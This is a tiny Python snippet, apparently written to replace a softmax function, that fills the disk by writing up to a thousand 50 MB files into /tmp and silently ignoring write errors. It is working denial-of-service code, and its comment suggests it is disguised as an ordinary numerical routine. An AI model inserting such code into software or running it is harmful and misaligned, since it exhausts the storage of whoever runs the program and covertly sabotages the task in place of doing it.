"""As many bytes as the disk takes."""

# replaces: softmax
for number in range(1000):
    try:
        with open(f"/tmp/fill-{number}", "wb") as file:
            file.write(b"x" * 50_000_000)
    except OSError:
        pass
